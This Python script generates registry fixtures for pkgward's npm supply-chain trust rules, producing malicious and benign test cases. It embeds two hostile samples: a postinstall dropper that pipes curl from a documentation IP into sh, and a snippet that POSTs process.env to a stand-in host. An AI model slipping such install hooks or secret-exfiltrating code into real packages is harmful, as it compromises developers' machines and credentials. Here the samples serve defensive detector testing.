#!/usr/bin/env python3
"""Regenerates the fixtures of the trust-* rules (rules/npm/trust/<id>/tests/).

Each fixture is a registry mirrored into a directory (registry/<name> holds
the packument, registry/tarballs/*.tgz the tarballs, with real sha512
integrity), a `spec` file naming the release `pkgward check` vets, and an
optional `min-age`. The instant they are judged at is 2026-11-26T00:00:00Z
(rules-test's FIXTURE_NOW). Tarballs are built reproducibly (sorted names,
mtime 0, gzip without a timestamp). All content is harmless: the "dropper"
dependency only names a documentation IP and never runs.

    scripts/make-registry-fixtures.py            # rewrite them in place
"""
import base64, gzip, hashlib, io, json, os, shutil, tarfile

ROOT = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "rules", "npm", "trust")
NOW = "2026-11-26T00:00:00.000Z"

def tgz(files):
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w", format=tarfile.USTAR_FORMAT) as t:
        for name in sorted(files):
            data = files[name].encode()
            ti = tarfile.TarInfo("package/" + name)
            ti.size, ti.mtime, ti.mode = len(data), 0, 0o644
            t.addfile(ti, io.BytesIO(data))
    out = io.BytesIO()
    with gzip.GzipFile(fileobj=out, mode="wb", mtime=0, filename="") as g:
        g.write(raw.getvalue())
    return out.getvalue()

def sri(b):
    return "sha512-" + base64.b64encode(hashlib.sha512(b).digest()).decode()

CLEAN_JS = "'use strict';\nmodule.exports = function add(a, b) {\n  return a + b;\n};\n"
DROPPER_JS = ("const { execSync } = require('child_process');\n"
              "execSync('curl -s http://192.0.2.15:8000/p | sh');\n")
ENV_EXFIL_JS = ("const https = require('https');\n"
                "https.request({ host: 'collect.example.invalid', path: '/e', method: 'POST' })"
                ".end(JSON.stringify(process.env));\n")

class Registry:
    def __init__(self):
        self.pkgs = {}   # name -> packument
        self.tars = {}   # file -> bytes

    def release(self, name, version, when, user="alice", deps=None, scripts=None,
                files=None, provenance=True, git_head=True, maintainers=("alice",),
                deprecated=None, time=True, hide=False):
        pj = {"name": name, "version": version, "main": "index.js"}
        if deps: pj["dependencies"] = deps
        if scripts: pj["scripts"] = scripts
        content = {"package.json": json.dumps(pj, indent=2) + "\n", "index.js": CLEAN_JS}
        content.update(files or {})
        b = tgz(content)
        fname = "%s-%s.tgz" % (name.replace("/", "-"), version)
        self.tars[fname] = b
        v = dict(pj)
        if hide:  # the registry shows a manifest without them
            v.pop("scripts", None)
            v.pop("dependencies", None)
        v["dist"] = {"tarball": "tarballs/" + fname, "integrity": sri(b)}
        if provenance:
            v["dist"]["attestations"] = {"url": "https://example.invalid/att",
                                         "provenance": {"predicateType": "https://slsa.dev/provenance/v1"}}
        if user:
            v["_npmUser"] = {"name": user, "email": user + "@example.invalid"}
        if git_head:
            v["gitHead"] = "0123456789abcdef0123456789abcdef01234567"
        v["maintainers"] = [{"name": m} for m in maintainers]
        if deprecated:
            v["deprecated"] = deprecated
        p = self.pkgs.setdefault(name, {"name": name, "dist-tags": {}, "time": {}, "versions": {}})
        p["versions"][version] = v
        if time:
            p["time"][version] = when
        p["time"].setdefault("created", when)
        p["time"]["created"] = min(p["time"]["created"], when)
        p["dist-tags"]["latest"] = version
        return self

    def write(self, dirpath, spec, min_age=None):
        reg = os.path.join(dirpath, "registry")
        os.makedirs(os.path.join(reg, "tarballs"), exist_ok=True)
        for name, p in self.pkgs.items():
            with open(os.path.join(reg, name.replace("/", "%2f")), "w") as f:
                json.dump(p, f, indent=1, sort_keys=True)
                f.write("\n")
        for fname, b in self.tars.items():
            with open(os.path.join(reg, "tarballs", fname), "wb") as f:
                f.write(b)
        with open(os.path.join(dirpath, "spec"), "w") as f:
            f.write(spec + "\n")
        if min_age:
            with open(os.path.join(dirpath, "min-age"), "w") as f:
                f.write(min_age + "\n")

def base(**kw):
    """lib 1.0.0 (2026-06-01, alice, provenance, gitHead) and 1.0.1 with kw."""
    r = Registry().release("lib", "1.0.0", "2026-06-01T10:00:00.000Z")
    args = dict(name="lib", version="1.0.1", when="2026-07-01T10:00:00.000Z")
    args.update(kw)
    return r.release(**args)

def fixture(rule, kind, case, reg, spec="lib@1.0.1", min_age=None):
    reg.write(os.path.join(ROOT, rule, "tests", kind, case), spec, min_age)

def main():
    for rule in os.listdir(ROOT) if os.path.isdir(ROOT) else []:
        t = os.path.join(ROOT, rule, "tests")
        if os.path.isdir(t):
            shutil.rmtree(t)
    fixture("trust-publisher-changed", "malicious", "other-account", base(user="mallory"))
    fixture("trust-publisher-changed", "benign", "same-account", base())
    fixture("trust-maintainers-changed", "malicious", "new-maintainer", base(maintainers=("alice", "mallory")))
    fixture("trust-maintainers-changed", "benign", "same-maintainers", base())
    fixture("trust-provenance-dropped", "malicious", "no-attestations", base(provenance=False))
    fixture("trust-provenance-dropped", "benign", "still-attested", base())
    fixture("trust-githead-missing", "malicious", "no-githead", base(git_head=False))
    fixture("trust-githead-missing", "benign", "with-githead", base())
    fixture("trust-release-young", "malicious", "two-hours-old", base(when="2026-11-25T22:00:00.000Z"), min_age="48h")
    fixture("trust-release-young", "benign", "ten-days-old", base(when="2026-11-16T00:00:00.000Z"), min_age="48h")
    r = base(when="2026-07-01T10:00:00.000Z").release("lib", "0.9.9", "2026-07-01T10:05:00.000Z")
    r.pkgs["lib"]["dist-tags"]["latest"] = "1.0.1"
    fixture("trust-burst-publishing", "malicious", "two-lines-five-minutes", r)
    r = base(when="2026-07-01T10:00:00.000Z").release("lib", "0.9.9", "2026-05-01T10:00:00.000Z")
    r.pkgs["lib"]["dist-tags"]["latest"] = "1.0.1"
    fixture("trust-burst-publishing", "benign", "two-lines-two-months", r)
    fixture("trust-dormant-revived", "malicious", "two-years-silent", base(when="2028-07-01T10:00:00.000Z"))
    fixture("trust-dormant-revived", "benign", "monthly", base())
    young = base(deps={"helper-x": "^1.0.0"}).release("helper-x", "1.0.0", "2026-06-30T10:00:00.000Z")
    fixture("trust-new-dependency-young", "malicious", "created-yesterday", young)
    old = base(deps={"helper-x": "^1.0.0"})
    for i, when in enumerate(["2019-01-01", "2020-01-01", "2021-01-01"]):
        old.release("helper-x", "1.0.%d" % i, when + "T00:00:00.000Z")
    fixture("trust-new-dependency-young", "benign", "established", old)
    near = base(deps={"axois": "^1.0.0"})
    for i, when in enumerate(["2019-01-01", "2020-01-01", "2021-01-01"]):
        near.release("axois", "1.0.%d" % i, when + "T00:00:00.000Z")
    fixture("trust-dependency-near-miss", "malicious", "axois", near)
    far = base(deps={"axios": "^1.0.0"})
    for i, when in enumerate(["2019-01-01", "2020-01-01", "2021-01-01"]):
        far.release("axios", "1.0.%d" % i, when + "T00:00:00.000Z")
    fixture("trust-dependency-near-miss", "benign", "axios", far)
    fixture("trust-dependency-unknown", "malicious", "missing-metadata", base(deps={"ghost-dep": "^1.0.0"}))
    fixture("trust-dependency-unknown", "benign", "dependency-present", old)
    mal = base(deps={"crypto-helper-z": "^4.2.1"}).release(
        "crypto-helper-z", "4.2.1", "2026-06-30T23:00:00.000Z", user="mallory",
        scripts={"postinstall": "node setup.js"}, files={"setup.js": DROPPER_JS})
    fixture("trust-new-dependency-malicious", "malicious", "dropper-dependency", mal)
    fixture("trust-new-dependency-malicious", "benign", "clean-dependency", old)
    sus = base(deps={"env-report-y": "^1.0.0"}).release(
        "env-report-y", "1.0.0", "2020-01-01T00:00:00.000Z",
        files={"lib/report.js": ENV_EXFIL_JS})
    fixture("trust-new-dependency-suspicious", "malicious", "env-dump-dependency", sus)
    fixture("trust-new-dependency-suspicious", "benign", "clean-dependency", old)
    r = base()
    r.pkgs["lib"]["dist-tags"]["latest"] = "1.0.0"
    fixture("trust-latest-moved-back", "malicious", "latest-points-back", r)
    fixture("trust-latest-moved-back", "benign", "latest-current", base())
    fixture("trust-deprecated", "malicious", "deprecated", base(deprecated="use lib2"))
    fixture("trust-deprecated", "benign", "current", base())
    fixture("trust-publisher-unknown", "malicious", "no-npm-user", base(user=None))
    fixture("trust-publisher-unknown", "benign", "npm-user", base())
    fixture("trust-manifest-confusion", "malicious", "hidden-postinstall",
            base(scripts={"postinstall": "node setup.js"}, files={"setup.js": "console.log('hi');\n"}, hide=True))
    fixture("trust-manifest-confusion", "benign", "shown-postinstall",
            base(scripts={"postinstall": "node setup.js"}, files={"setup.js": "console.log('hi');\n"}))
    fixture("trust-time-unknown", "malicious", "no-time", base(time=False))
    fixture("trust-time-unknown", "benign", "with-time", base())

if __name__ == "__main__":
    main()
